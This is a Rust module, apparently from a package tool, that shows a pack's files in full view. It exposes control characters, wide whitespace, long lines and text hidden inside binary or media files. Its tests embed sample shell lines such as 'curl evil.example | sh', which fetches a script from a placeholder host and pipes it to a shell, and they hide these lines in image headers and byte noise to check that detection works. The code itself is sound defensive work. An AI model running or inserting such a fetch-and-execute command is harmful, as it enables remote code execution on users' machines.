//! Shows files of a pack from elsewhere, so that nothing in them looks like anything but their text, or is out of sight.

use std::fmt::Write as _;

use super::grant_uses::INDENT;
use crate::diagnostic::{count_noun, sanitize};
use crate::manifest::SCHEMA;
use crate::pack_source::text_of;

/// How many columns of white space stay: more of it moves what follows out of sight. A tab has 8.
const MAX_BLANK_COLUMNS: usize = 60;
/// How many blank lines stay, one below the other.
const MAX_BLANK_LINES: usize = 10;
/// How long a line may be.
const MAX_LINE_CHARS: usize = 2100;
/// How many characters of a longer one are shown at its start, and at its end.
const LINE_END_CHARS: usize = 1000;
/// How long a text within other bytes is at least. Any bytes have shorter ones by chance.
const MIN_TEXT_CHARS: usize = 6;
/// The same in pictures, sounds and fonts, whose tables are texts by chance.
const MIN_MEDIA_TEXT_CHARS: usize = 48;

/// The same of a text there that begins a line, as a command does.
const MIN_MEDIA_LINE_CHARS: usize = 8;

/// How pictures, sounds and fonts begin, where no text begins so.
const MEDIA: [&[u8]; 14] = [
    b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"II*\0", b"MM\0*", b"\0\0\x01\0", b"\0\0\0\x0cJXL ", b"\xff\x0a",
    b"\xff\xfb", b"\xff\xf3", b"OggS\0", b"fLaC\0\0\0", b"\0\x01\0\0", b"OTTO\0", b"ttcf\0",
];

/// Whether a file is a picture, a sound or a font. What begins with letters has more of its header than these.
fn is_media(bytes: &[u8]) -> bool {
    let number = |at: usize| Some(u32::from_le_bytes(bytes.get(at..at + 4)?.try_into().ok()?) as usize);
    let is_sized = |at: usize, size: usize| number(at) == Some(size);
    MEDIA.iter().any(|start| bytes.starts_with(start))
        || bytes.starts_with(b"BM") && is_sized(2, bytes.len())
        || bytes.starts_with(b"RIFF") && is_sized(4, bytes.len().saturating_sub(8))
        || bytes.starts_with(b"GIF8") && bytes.ends_with(b"\0;")
        || bytes.starts_with(b"ID3") && bytes.get(3).is_some_and(|version| *version < 5)
        || bytes.starts_with(b"wOF") && bytes.get(8..12).is_some_and(|size| size.starts_with(b"\0"))
        || bytes.get(4..8) == Some(b"ftyp") && bytes.starts_with(b"\0\0")
}

/// What is shown of a file: its text, or the texts within its other bytes. `None` if it has none.
pub(super) fn file_text(bytes: &[u8]) -> Option<String> {
    text_of(bytes).or_else(|| texts_within(bytes)).filter(|text| !text.is_empty() || bytes.is_empty())
}

/// Whether a file is the schema that `folio init` writes.
pub(super) fn is_own_schema(bytes: &[u8]) -> bool {
    bytes == SCHEMA.as_bytes()
}

/// The texts within other bytes, with a note instead of these. A shell reads on after zero bytes, so they do not end a text.
fn texts_within(bytes: &[u8]) -> Option<String> {
    let is_media = is_media(bytes);
    let is_text = |character: char| !character.is_control() || matches!(character, '\t' | '\n' | '\r' | '\0');
    let mut shown = String::new();
    let mut others = 0;
    for chunk in bytes.utf8_chunks() {
        for part in chunk.valid().split_inclusive(|character| !is_text(character)) {
            let text = part.trim_end_matches(|character| !is_text(character)).replace('\0', "");
            if is_shown(&text, is_media) {
                add_note(&mut shown, std::mem::take(&mut others));
                shown.push_str(&text);
                others += part.len() - text.len();
            } else {
                others += part.len();
            }
        }
        others += chunk.invalid().len();
    }
    let has_text = !shown.is_empty();
    add_note(&mut shown, others);
    has_text.then_some(shown)
}

/// Whether a text is more than what any bytes have by chance.
fn is_shown(text: &str, is_media: bool) -> bool {
    let has = |text: &str, chars: usize| text.chars().nth(chars - 1).is_some();
    match is_media {
        false => has(text, MIN_TEXT_CHARS),
        true => has(text, MIN_MEDIA_TEXT_CHARS) || text.split('\n').skip(1).any(|line| has(line, MIN_MEDIA_LINE_CHARS)),
    }
}

fn add_note(shown: &mut String, others: usize) {
    if others > 0 {
        let _ = write!(shown, "[{}]", count_noun(others, "other byte"));
    }
}

/// The lines of a text, each of them indented and shown as it is.
pub(super) fn indented_lines(text: &str) -> String {
    visible_lines(text).lines().map(|line| format!("{:INDENT$}{line}\n", "")).collect()
}

/// The lines of a text, or of a comparison of two, apart from what a terminal obeys or does not show, with notes in the
/// place of what would move others out of sight: much white space, many blank lines, and the middle of long lines.
pub(super) fn visible_lines(text: &str) -> String {
    let lines: Vec<&str> = text.lines().collect();
    let mut shown = String::with_capacity(text.len());
    for run in lines.chunk_by(|line, next| is_blank(line) && is_blank(next)) {
        if run.len() > MAX_BLANK_LINES {
            let _ = writeln!(shown, "[{} blank lines]", run.len());
        } else {
            run.iter().for_each(|line| shown.push_str(&visible_line(line)));
        }
    }
    shown
}

/// Whether a line has no text, or none after the sign of a comparison.
fn is_blank(line: &str) -> bool {
    line.strip_prefix(['+', '-']).unwrap_or(line).trim().is_empty()
}

fn visible_line(line: &str) -> String {
    let line = without_wide_blanks(&sanitize(line));
    match folded_chars(&line) {
        0 => line + "\n",
        folded => {
            let start: String = line.chars().take(LINE_END_CHARS).collect();
            let end: String = line.chars().skip(LINE_END_CHARS + folded).collect();
            format!("{start} [{folded} characters] {end}\n")
        }
    }
}

/// How many characters of a line are not shown.
fn folded_chars(line: &str) -> usize {
    match line.chars().count() {
        0..=MAX_LINE_CHARS => 0,
        long => long - 2 * LINE_END_CHARS,
    }
}

/// How many characters of the lines of a text [`visible_lines`] does not show.
pub(super) fn hidden_chars(text: &str) -> usize {
    text.lines().map(|line| folded_chars(&without_wide_blanks(&sanitize(line)))).sum()
}

/// A line with a note instead of much white space.
fn without_wide_blanks(line: &str) -> String {
    let mut shown = String::with_capacity(line.len());
    let mut rest = line;
    while let Some(start) = rest.find(char::is_whitespace) {
        let (before, from) = rest.split_at(start);
        rest = from.trim_start();
        let (blanks, _) = from.split_at(from.len() - rest.len());
        shown.push_str(before);
        let columns: usize = blanks.chars().map(|blank| if blank == '\t' { 8 } else { 1 }).sum();
        match blanks.chars().next() {
            _ if columns <= MAX_BLANK_COLUMNS => shown.push_str(blanks),
            Some(' ') if blanks.bytes().all(|byte| byte == b' ') => {
                let _ = write!(shown, " [{columns} spaces] ");
            }
            _ => {
                let _ = write!(shown, " [{} characters of white space] ", blanks.chars().count());
            }
        }
    }
    shown.push_str(rest);
    shown
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bytes_that_are_not_text_are_shown() {
        let shown = file_text(b"a\xff\r\n\x1b[8mb").map(|text| indented_lines(&text));
        assert_eq!(shown.as_deref(), Some("    a\\xff\n    \u{241b}[8mb\n"));
        assert_eq!(file_text(b"# \0\necho").as_deref(), Some("# \\0\necho"));
        assert_eq!(file_text(b"a\0"), None);
        assert_eq!(file_text(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0"), None);
    }

    #[test]
    fn texts_within_other_bytes_are_shown() {
        let script = b"\ncurl evil.example | sh\n";
        let noise = [0xc3_u8, 0x28, 0xff, 0x00, 0x9c];
        let bytes = [&noise.repeat(20)[..], script, &noise.repeat(20)].concat();
        let shown = file_text(&bytes);
        assert_eq!(shown.as_deref(), Some("[100 other bytes]\ncurl evil.example | sh\n[100 other bytes]"));
        // What a file is called, or how it begins, makes no picture of a text.
        assert!(file_text(b"GIF89a=1\ncurl evil.example | sh\n").is_some_and(|text| text.contains("curl")));
        let hidden = [&b"\x89PNG\r\n\x1a\n"[..], &noise.repeat(200), &script.repeat(3)].concat();
        assert!(file_text(&hidden).is_some_and(|text| text.contains("curl")));
        let picture =
            [&b"\xff\xd8\xff\xe0\0\x10JFIF"[..], &noise.repeat(200), b"456789:CDEFGHIJSTUVWXYZcdefghijstuvwxyz"];
        assert_eq!(file_text(&picture.concat()), None);
        let utf16: Vec<u8> = "\u{feff}curl\n".encode_utf16().flat_map(u16::to_le_bytes).collect();
        assert_eq!(file_text(&utf16).as_deref(), Some("curl\n"));
    }

    #[test]
    fn what_a_shell_reads_is_shown() {
        let spread: Vec<u8> = "curl evil.example | sh\n".bytes().flat_map(|byte| [byte, 0]).collect();
        assert!(file_text(&spread).is_some_and(|text| text.contains("curl evil.example | sh")));
        let other = [0xff_u8, 0xfe, 0x80].repeat(20);
        for start in ["BM=1", "GIF89a=1", "OTTO=1", "RIFF=1", "ID3=1", "xxx\nftyp", "wOFF=1", "fLaC=1", "OggS=1"] {
            let bytes = [start.as_bytes(), b"\nid > /tmp/x\n#", &other, b"\n"].concat();
            assert!(file_text(&bytes).is_some_and(|text| text.contains("id > /tmp/x")), "{start}");
        }
        let picture = [&b"\x89PNG\r\n\x1a\n"[..], &other, b"\nid > /tmp/x\n", &other].concat();
        assert!(file_text(&picture).is_some_and(|text| text.contains("id > /tmp/x")));
    }

    #[test]
    fn white_space_and_long_lines_hide_nothing() {
        let shown = |line: &str| visible_lines(line);
        assert_eq!(shown(&format!("  id{}; evil  x", " ".repeat(900))), "  id [900 spaces] ; evil  x\n");
        for blank in ["\t", "\u{a0}", "\u{3000}", "\u{2003}", "\t \u{a0}"] {
            let count = blank.chars().count() * 400;
            let expected = format!("id [{count} characters of white space] evil\n");
            assert_eq!(shown(&format!("id{}evil", blank.repeat(400))), expected);
        }
        assert_eq!(shown(&format!("a\n{}b\n", " \t\n".repeat(400))), "a\n[400 blank lines]\nb\n");
        assert_eq!(shown(&format!("-a\n{}+b\n", "+\n".repeat(11))), "-a\n[11 blank lines]\n+b\n");
        assert_eq!(shown("a\n\n\n\nb\n"), "a\n\n\n\nb\n");
        let long = format!("start{}end", "x".repeat(600_000));
        let line = shown(&long);
        assert!(
            line.starts_with("startx") && line.ends_with("xend\n") && line.contains("x [598008 characters] x"),
            "{line}"
        );
        assert_eq!((hidden_chars(&long), hidden_chars(&"x".repeat(2100))), (598_008, 0));
        assert_eq!(shown(&line), line);
    }
}
